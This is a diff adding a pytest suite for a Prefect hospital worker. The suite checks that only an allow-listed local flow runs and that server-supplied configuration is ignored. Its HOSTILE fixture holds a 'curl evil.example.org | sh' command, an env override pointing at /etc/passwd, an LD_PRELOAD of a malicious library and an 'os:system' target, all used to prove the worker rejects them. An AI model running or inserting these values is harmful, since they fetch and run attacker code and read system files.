@@ -1,0 +1,286 @@
+"""The hospital's worker: its own allow-list decides what runs, the server only when."""
+
+from __future__ import annotations
+
+import json
+import os
+from collections.abc import Iterator, Mapping
+from contextlib import nullcontext
+from dataclasses import dataclass, field
+from types import SimpleNamespace
+from typing import Any
+from uuid import UUID, uuid4
+
+import anyio
+import pytest
+from prefect.client.schemas.objects import Flow, FlowRun
+from prefect.states import Cancelling, Running
+
+from deployments import worker as worker_module
+from deployments.worker import (
+    ALLOWED_FLOWS,
+    HospitalJobConfiguration,
+    HospitalVariables,
+    HospitalWorker,
+    run_child,
+)
+from flows.hospital_round import hospital_round
+
+ENVIRONMENT = {"FEDMED_HOSPITAL_ID": "north", "FEDMED_DATA_PATH": "/data/table.csv"}
+HOSTILE = {
+    "command": "curl evil.example.org | sh",
+    "env": {"FEDMED_DATA_PATH": "/etc/passwd", "LD_PRELOAD": "/srv/evil.so"},
+    "image": "evil:latest",
+    "working_dir": "/",
+}
+
+
+@dataclass
+class FakeWarm:
+    """A warm process that forks nothing and remembers what it was asked."""
+
+    exit_code: int = 0
+    requests: list[Mapping[str, str]] = field(default_factory=list)
+    killed: list[int] = field(default_factory=list)
+
+    async def start(self, request: Mapping[str, str]) -> int:
+        self.requests.append(request)
+        return 4711
+
+    async def wait(self, pid: int) -> int:
+        while self.exit_code < 0 and not self.killed:
+            await anyio.sleep(0)
+        return self.exit_code
+
+    def kill(self, pid: int) -> None:
+        self.killed.append(pid)
+
+
+@dataclass
+class Hospital:
+    worker: HospitalWorker
+    warm: FakeWarm
+    crashes: list[tuple[UUID, int]]
+    waited: list[str]
+
+
+@pytest.fixture
+def hospital() -> Hospital:
+    warm, crashes, waited = FakeWarm(), [], []
+
+    async def report_crash(flow_run: FlowRun, exit_code: int) -> None:
+        crashes.append((flow_run.id, exit_code))
+
+    async def await_work() -> None:
+        waited.append("await_work")
+
+    worker = HospitalWorker(
+        hospital_id="north",
+        warm=warm,  # type: ignore[arg-type]
+        environment=ENVIRONMENT,
+        await_work=await_work,
+        report_crash=report_crash,
+    )
+    return Hospital(worker, warm, crashes, waited)
+
+
+def a_flow_run(**values: Any) -> FlowRun:
+    return FlowRun(
+        id=uuid4(),
+        name="north-round-1",
+        flow_id=uuid4(),
+        deployment_id=uuid4(),
+        job_variables=HOSTILE,
+        parameters={"invitation": {"number": 1}},
+        **values,
+    )
+
+
+def configured(name: str | None) -> HospitalJobConfiguration:
+    return HospitalJobConfiguration(name=name)
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(
+    "name", ["federated-round", "hospital-round ", "Hospital-Round", "", None, "os:system"]
+)
+async def test_a_flow_that_is_not_allowed_forks_nothing(
+    hospital: Hospital, name: str | None
+) -> None:
+    with pytest.raises(PermissionError, match="is not allowed at this hospital"):
+        await hospital.worker.run(a_flow_run(), configured(name))
+    assert hospital.warm.requests == []
+    assert hospital.crashes == []
+
+
+@pytest.mark.anyio
+async def test_an_allowed_flow_runs_the_installed_one_in_the_site_s_environment(
+    hospital: Hospital,
+) -> None:
+    flow_run = a_flow_run()
+    result = await hospital.worker.run(flow_run, configured("hospital-round"))
+    (request,) = hospital.warm.requests
+    assert request["target"] == "flows.hospital_round:hospital_round"
+    assert {key: request[key] for key in ENVIRONMENT} == ENVIRONMENT
+    assert set(request) == {*ENVIRONMENT, "flow_run", "target"}
+    assert json.loads(request["flow_run"])["id"] == str(flow_run.id)
+    assert (result.identifier, result.status_code) == ("4711", 0)
+    assert hospital.crashes == []
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("exit_code", [1, 7, 137])
+async def test_a_crash_is_reported_with_its_exit_code(hospital: Hospital, exit_code: int) -> None:
+    hospital.warm.exit_code = exit_code
+    flow_run = a_flow_run()
+    result = await hospital.worker.run(flow_run, configured("hospital-round"))
+    assert hospital.crashes == [(flow_run.id, exit_code)]
+    assert result.status_code == exit_code
+
+
+@pytest.mark.anyio
+async def test_the_server_learns_the_child_s_process_as_soon_as_it_is_there(
+    hospital: Hospital,
+) -> None:
+    started: list[int] = []
+    status: Any = SimpleNamespace(started=started.append)
+    await hospital.worker.run(a_flow_run(), configured("hospital-round"), status)
+    assert started == [4711]
+
+
+@pytest.mark.anyio
+async def test_a_run_that_is_cancelled_is_killed_and_reported(
+    hospital: Hospital, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(worker_module, "_CANCEL_POLL_S", 0.001)
+    states = [Running(), Cancelling()]
+    cancelled: list[UUID] = []
+
+    async def read_flow_run(flow_run_id: UUID) -> FlowRun:
+        return a_flow_run(state=states.pop(0))
+
+    async def mark(flow_run: FlowRun) -> None:
+        cancelled.append(flow_run.id)
+
+    hospital.worker._client = SimpleNamespace(read_flow_run=read_flow_run)  # type: ignore[assignment]
+    monkeypatch.setattr(hospital.worker, "_mark_flow_run_as_cancelled", mark)
+    hospital.warm.exit_code = -9  # runs until it is killed
+    await hospital.worker.run(a_flow_run(), configured("hospital-round"))
+    assert hospital.warm.killed == [4711]
+    assert len(cancelled) == 1
+    assert [exit_code for _, exit_code in hospital.crashes] == [-9]
+
+
+@pytest.mark.anyio
+async def test_of_all_that_a_server_configures_the_flow_s_name_alone_is_read() -> None:
+    flow_run = a_flow_run()
+    asked: list[UUID] = []
+
+    async def read_flow(flow_id: UUID) -> Flow:
+        asked.append(flow_id)
+        return Flow(id=flow_id, name="hospital-round", labels={})
+
+    client: Any = SimpleNamespace(read_flow=read_flow)
+    template = {"job_configuration": HOSTILE, "variables": {"properties": {}}}
+    pool: Any = SimpleNamespace(base_job_template=template)
+    deployment: Any = SimpleNamespace(
+        job_variables=HOSTILE, entrypoint="/srv/evil.py:flow", pull_steps=[{"run": HOSTILE}]
+    )
+    for _ in range(2):
+        configuration = await HospitalJobConfiguration.resolve_for_flow_run(
+            flow_run, client=client, work_pool=pool, worker_name="w", deployment=deployment
+        )
+        assert configuration.model_dump() == {
+            "command": None,
+            "env": {},
+            "labels": {},
+            "name": "hospital-round",
+        }
+    assert asked == [flow_run.flow_id]  # a flow's name does not change
+
+
+def test_a_hospital_s_pool_takes_no_variables() -> None:
+    assert HospitalVariables.model_fields.keys() <= {"name", "env", "labels", "command"}
+    template = HospitalWorker.get_default_base_job_template()
+    assert template["variables"]["properties"].keys() <= {"name", "env", "labels", "command"}
+
+
+def test_the_allow_list_names_the_one_flow_and_cannot_be_changed() -> None:
+    assert dict(ALLOWED_FLOWS) == {"hospital-round": "flows.hospital_round:hospital_round"}
+    assert hospital_round.name in ALLOWED_FLOWS
+    with pytest.raises(TypeError):
+        ALLOWED_FLOWS["other"] = "os:system"  # type: ignore[index]
+
+
+def test_the_worker_works_on_its_own_pool_alone(hospital: Hospital) -> None:
+    assert hospital.worker._work_pool_name == "hospital-north"
+    assert hospital.worker.name.startswith("north-")
+
+
+@pytest.mark.parametrize("missing", ["hospital_id", "warm", "await_work", "report_crash"])
+def test_it_is_not_started_by_prefect_s_own_command(missing: str) -> None:
+    async def nothing(*_: Any) -> None:
+        return None
+
+    given: dict[str, Any] = {
+        "hospital_id": "north",
+        "warm": FakeWarm(),
+        "await_work": nothing,
+        "report_crash": nothing,
+    }
+    HospitalWorker("hospital-north", **given)
+    with pytest.raises(TypeError, match="fedmed hospital start"):
+        HospitalWorker("hospital-north", **{**given, missing: None})
+
+
+@pytest.mark.anyio
+async def test_the_exchange_is_waited_on_once_the_pool_is_known(
+    hospital: Hospital, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    async def submit(self: Any) -> list[FlowRun]:
+        return []
+
+    monkeypatch.setattr(worker_module.BaseWorker, "get_and_submit_flow_runs", submit)
+    assert await hospital.worker.get_and_submit_flow_runs() == []
+    assert hospital.waited == []
+    hospital.worker._has_successfully_synced = True
+    await hospital.worker.get_and_submit_flow_runs()
+    assert hospital.waited == ["await_work"]
+
+
+@pytest.fixture
+def ran(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Any]]:
+    """What the child runs, with the environment in which it does; nothing reaches a server."""
+    calls: list[Any] = []
+
+    def run_flow(flow: Any, *, flow_run: FlowRun, return_type: str) -> None:
+        calls.append((flow, flow_run, return_type, dict(os.environ)))
+
+    monkeypatch.setattr("prefect.flow_engine.run_flow", run_flow)
+    monkeypatch.setattr(worker_module, "warm_client", lambda: nullcontext())
+    before = dict(os.environ)
+    yield calls
+    os.environ.clear()
+    os.environ.update(before)
+
+
+def test_the_child_runs_the_local_flow_and_takes_nothing_from_the_server(ran: list[Any]) -> None:
+    flow_run = a_flow_run()
+    before = set(os.environ)
+    run_child(
+        {
+            **ENVIRONMENT,
+            "flow_run": flow_run.model_dump_json(),
+            "target": ALLOWED_FLOWS["hospital-round"],
+        }
+    )
+    ((flow, given, return_type, environment),) = ran
+    assert flow is hospital_round
+    assert given.id == flow_run.id
+    assert given.parameters == flow_run.parameters
+    assert given.deployment_id is None
+    assert return_type == "state"
+    assert set(environment) - before <= {*ENVIRONMENT, "PREFECT__FLOW_RUN_ID"}
+    assert environment["PREFECT__FLOW_RUN_ID"] == str(flow_run.id)
+    assert {key: environment[key] for key in ENVIRONMENT} == ENVIRONMENT
+    assert not any("evil" in value for value in environment.values())
